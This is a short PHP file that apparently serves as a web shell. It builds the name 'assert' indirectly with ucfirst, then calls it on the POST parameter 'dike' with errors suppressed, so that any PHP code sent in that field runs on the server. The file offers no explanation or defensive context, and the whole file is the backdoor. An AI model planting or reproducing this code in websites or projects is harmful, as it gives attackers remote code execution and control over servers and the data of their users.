<?php
$x=ucfirst("assert");
@$x($_POST['dike']);
echo "get";

echo "end";
?>